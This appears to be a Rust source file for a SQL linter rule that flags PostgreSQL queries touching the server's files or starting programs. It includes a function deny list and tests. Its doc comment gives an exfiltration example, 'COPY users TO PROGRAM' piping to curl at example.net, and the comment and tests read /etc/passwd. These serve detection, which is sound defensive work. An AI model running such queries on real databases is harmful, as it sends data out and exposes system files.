//! ### What it does
//! Finds what reads or writes files of the database server or starts programs there: `COPY` from or to a file or a
//! `PROGRAM`, `pg_read_file`, `pg_read_binary_file`, `pg_ls_dir` and its like, `pg_stat_file`, `pg_file_write` and the other
//! functions of adminpack, `lo_import`, `lo_export`, and what `functions` adds.
//!
//! ### Why it hurts
//! It is how an injection becomes a login on the machine: `COPY … TO PROGRAM` runs a shell command, `pg_read_file` gives
//! configuration and keys. Programs talk to the database, never to its disk.
//!
//! ### Example
//! ```sql
//! COPY users TO PROGRAM 'curl -d @- http://example.net';
//! SELECT pg_read_file('/etc/passwd');
//! ```
//!
//! ### Instead
//! Move data through the connection:
//! ```sql
//! COPY users TO STDOUT;
//! ```
//!
//! ### How to silence
//! Exempt the job that must: `unless = { users = ["backup"] }`.

use super::{Finding, Opt, Options, Subject, own_function};

pub(super) const READS: &[&str] = &["query.not_read_only", "query.functions", "query.copy"];
pub(super) const OPTIONS: &[Opt] = &[
    Opt::texts("functions", &[], "further functions that touch files; `*` at the end stands for any rest"),
    Opt::texts("allow", &[], "functions that may be called though they are listed"),
];

const FUNCTIONS: &[&str] = &[
    "pg_read_file*",
    "pg_read_binary_file*",
    "pg_ls_*",
    "pg_stat_file",
    "pg_file_*",
    "pg_logdir_ls",
    "pg_current_logfile",
    "lo_import*",
    "lo_export",
    "be_lo_import",
    "be_lo_export",
];

pub(super) fn check(subject: &Subject<'_>, options: &Options) -> Option<Finding> {
    let facts = subject.facts;
    if facts.copy.ends_with("file") || facts.copy.ends_with("program") {
        return Some(Finding {
            message: format!("This copies {} on the server.", facts.copy.replace("file", "a file").replace("program", "a program")),
            hint: "Copy through the connection: FROM STDIN, TO STDOUT.".into(),
        });
    }
    let name = own_function(facts, FUNCTIONS, options)?;
    Some(Finding {
        message: format!("{name} reaches files of the server."),
        hint: "Move the data through the connection instead.".into(),
    })
}

#[cfg(test)]
mod tests {
    use super::super::super::Given;
    use super::super::super::testing::{Around, flags, flags_in, passes, passes_in};

    #[test]
    fn flags_files_and_programs() {
        let found = flags("server-file-access", "COPY users TO PROGRAM 'curl'");
        assert_eq!(found.message, "This copies to a program on the server.");
        let _ = flags("server-file-access", "COPY users FROM '/tmp/x'");
        let found = flags("server-file-access", "SELECT pg_read_file('/etc/passwd')");
        assert_eq!(found.message, "pg_read_file reaches files of the server.");
        let _ = flags("server-file-access", "SELECT a FROM t WHERE b = (SELECT \"pg_catalog\".pg_ls_dir('/') LIMIT 1)");
        let _ = flags("server-file-access", "SELECT lo_import('/etc/passwd')");
        let more = Around::with("server-file-access", |o| o.set("functions", Given::Texts(vec!["ext.file_*".into()])));
        let _ = flags_in("server-file-access", "SELECT ext.file_get('x')", &more);
    }

    #[test]
    fn passes_the_connection() {
        passes("server-file-access", "COPY users TO STDOUT");
        passes("server-file-access", "COPY users FROM STDIN");
        passes("server-file-access", "SELECT 'pg_read_file(x)'");
        let less = Around::with("server-file-access", |o| o.set("allow", Given::Texts(vec!["pg_ls_logdir".into()])));
        passes_in("server-file-access", "SELECT * FROM pg_ls_logdir()", &less);
    }
}
